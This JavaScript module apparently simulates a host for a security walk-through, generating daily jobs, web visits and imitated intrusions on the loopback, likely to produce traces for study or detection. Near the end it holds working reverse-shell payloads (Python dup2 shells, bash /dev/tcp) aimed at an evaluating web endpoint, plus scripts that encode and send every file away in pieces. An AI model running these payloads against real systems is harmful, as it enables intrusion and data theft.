// The made-up host of the walk-through: a day's inputs and jobs, visits to its web server, and imitated intrusions.
import { createServer } from "node:net";
import { cpSync, existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { request } from "node:http";
import { setTimeout } from "node:timers/promises";

const PROGRAMS = "sample/programs";
const WORDS = "ba ceki difo guha kilo muna peri sotu vawe yoza chesta brilon merkan tolba zamu nafo".split(" ");
const TOKEN = "walkthrough";

// Plain programs where they are: a version manager's python3 is a script that starts a dozen shells, each in the trace.
const SEARCH_PATH = existsSync("/usr/bin/python3") ? "/usr/bin:/bin" : process.env.PATH;

/** The environment of everything that is recorded: nothing else of the caller's leaks into the traces. */
export function hostEnvironment(home) {
  return { PATH: SEARCH_PATH, HOME: home, TMPDIR: home, LC_ALL: "C", TOKEN, PYTHONDONTWRITEBYTECODE: "1" };
}

/** Numbers in [0, 1), the same for the same seed (mulberry32). */
export function randomFrom(seed) {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32;
  };
}

const between = (random, least, most) => least + Math.floor(random() * (most - least + 1));
const oneOf = (random, list) => list[between(random, 0, list.length - 1)];

function prose(random, characters) {
  let text = "";
  while (text.length < characters) {
    text += Array.from({ length: between(random, 3, 14) }, () => oneOf(random, WORDS)).join(" ") + "\n";
  }
  return text;
}

function writeTexts(random, folder, count, largest, ending) {
  mkdirSync(folder, { recursive: true });
  for (let number = 0; number < count; number++) {
    const characters = Math.floor(200 * (largest / 200) ** random());
    writeFileSync(`${folder}/${oneOf(random, WORDS)}${number}.${ending}`, prose(random, characters));
  }
}

/** Fills a folder with the day's inputs and its script day.sh, which runs about two thirds of the jobs in some order. */
export function writeDay(folder, random) {
  cpSync(PROGRAMS, folder, { recursive: true });
  writeTexts(random, `${folder}/logs`, between(random, 2, 4), 12_000, "log");
  writeTexts(random, `${folder}/texts`, between(random, 1, 3), 15_000, "txt");
  for (let number = between(random, 1, 3); number > 0; number--) {
    writeTexts(
      random,
      `${folder}/tree/${oneOf(random, WORDS)}/${oneOf(random, WORDS)}`,
      between(random, 1, 6),
      8000,
      "md",
    );
  }
  const rows = Array.from({ length: between(random, 20, 1500) }, (_, row) => {
    return `2026-01-${(row % 28) + 1},${oneOf(random, WORDS)},item${row},${between(random, 1, 900)}`;
  });
  writeFileSync(`${folder}/t.csv`, `date,place,item,amount\n${rows.join("\n")}\n`);
  const records = rows.map((row, id) => ({ id, tags: row.split(",").slice(1, between(random, 1, 3)) }));
  writeFileSync(`${folder}/r.json`, JSON.stringify(records));
  const jobs = [
    "ls -la texts",
    `bash housekeeping.sh logs ${oneOf(random, [1000, 3000, 6000])}`,
    "bash backup.sh tree kept",
    `bash word_report.sh ${between(random, 3, 20)} texts/*.txt`,
    "python3 json_report.py r.json",
    "python3 csv_totals.py totals t.csv",
    `python3 hash_folder.py ${between(random, 1, 3)} tree`,
    `grep -rn ${oneOf(random, WORDS)} tree || true`,
    `find tree -type f -name '${oneOf(random, ["*.md", "ba*", "*1*"])}' -exec wc -c {} +`,
    `sort -u texts/*.txt -o sorted.txt`,
    `sed -i 's/${oneOf(random, WORDS)}/${oneOf(random, WORDS)}/g' texts/*.txt`,
    `awk -F, '{ s[$2] += $4 } END { for (p in s) print p, s[p] }' t.csv`,
    "tar -czf tree.tar.gz tree && tar -tzf tree.tar.gz",
    `gzip -k${between(random, 1, 9)} texts/*.txt && gzip -t texts/*.gz`,
  ];
  const today = jobs
    .map((job) => [random(), job])
    .sort()
    .slice(0, between(random, 8, 12))
    .map(([, job]) => job);
  writeFileSync(`${folder}/day.sh`, `set -e\n${today.join("\n")}\n`);
}

/** Fills a folder with what the web server serves. */
export function writeWebSite(folder, random) {
  cpSync(PROGRAMS, folder, { recursive: true });
  writeTexts(random, `${folder}/files`, between(random, 2, 12), 60_000, "txt");
  writeFileSync(`${folder}/files/notes.txt`, prose(random, 2000));
  mkdirSync(`${folder}/plugins`);
  const plugin =
    "import os\ndef answer(query):\n    return str(len(os.listdir('files')) * int(query.get('times', 1)))\n";
  writeFileSync(`${folder}/plugins/counter.py`, plugin);
}

/** The paths of one normal visit to the web server. */
export function visit(folder, random) {
  const names = readdirSync(`${folder}/files`);
  return Array.from({ length: between(random, 1, 5) }, () =>
    oneOf(random, [
      `/files/${oneOf(random, names)}`,
      `/files/${oneOf(random, names)}`,
      "/files/absent.txt",
      "/list",
      `/search?q=${oneOf(random, WORDS)}`,
      `/sum?expression=${between(random, 1, 99)}*${between(random, 1, 99)}`,
      `/plugin/counter?times=${between(random, 1, 9)}`,
    ]),
  );
}

/** The port that the web server writes to a file once it listens; null when it has not after ten seconds. */
export async function portIn(file) {
  for (let waits = 0; waits < 500; waits++) {
    const text = existsSync(file) ? readFileSync(file, "utf8") : "";
    if (text.endsWith("\n")) return Number(text);
    await setTimeout(20);
  }
  return null;
}

/** Asks for one page, over a connection of its own; the server may hang up, as one that was broken into does. */
export function fetchPage(port, path) {
  return new Promise((done) => {
    const asked = request({ host: "127.0.0.1", port, path, headers: { "X-Token": TOKEN }, agent: false }, (answer) => {
      answer.resume().on("close", done);
    });
    asked.on("error", done).end();
  });
}

/** The far end of an intrusion, on the loopback: every connection is sent commands, and what comes back is counted. */
export async function intruderListens(commands) {
  const far = { port: 0, bytes: 0, close: () => server.close() };
  const server = createServer((socket) => {
    socket.on("data", (data) => (far.bytes += data.length)).on("error", () => {});
    if (commands.length > 0) socket.write(`${[...commands, "exit"].join("\n")}\n`);
  });
  await new Promise((ready) => server.listen(0, "127.0.0.1", ready));
  far.port = server.address().port;
  return far;
}

const CONNECT = "import os, socket\ns = socket.create_connection(('127.0.0.1', PORT))\n";
const ONTO_SOCKET = "for n in (0, 1, 2): os.dup2(s.fileno(), n)\n";

/** What is sent to the web server's /sum, which evaluates it: each connects back and runs a shell there. */
export const REVERSE_SHELLS = [
  `${CONNECT}${ONTO_SOCKET}os.execv('/bin/sh', ['sh'])`,
  `${CONNECT}${ONTO_SOCKET}import subprocess\nsubprocess.call(['/bin/sh'])`,
  "import subprocess\nsubprocess.call(['bash', '-c', 'exec bash >& /dev/tcp/127.0.0.1/PORT 0>&1'])",
];

/** What the intruder types into the shell. */
export const TYPED = [
  "id",
  "uname -a",
  "ls -la",
  "cat files/notes.txt",
  "grep -r answer plugins",
  "tar -cf .files.tar files",
];

/** Programs that send every file of the day's tree away, in pieces, to the port they are given. */
export const SMUGGLERS = [
  {
    interpreter: "bash",
    file: "smuggler.sh",
    text: `for path in tree/*/*/*; do
  for data in $(base64 -w 90 "$path"); do echo "$data.example" > /dev/tcp/127.0.0.1/$1; done
done
`,
  },
  {
    interpreter: "python3",
    file: "smuggler.py",
    text: `import base64, pathlib, socket, sys
for path in sorted(path for path in pathlib.Path("tree").rglob("*") if path.is_file()):
    data = base64.b32encode(path.read_bytes())
    for at in range(0, len(data), 400):
        with socket.create_connection(("127.0.0.1", int(sys.argv[1]))) as s:
            s.sendall(b"GET /" + data[at:at + 400] + b" HTTP/1.0\\r\\n\\r\\n")
`,
  },
];
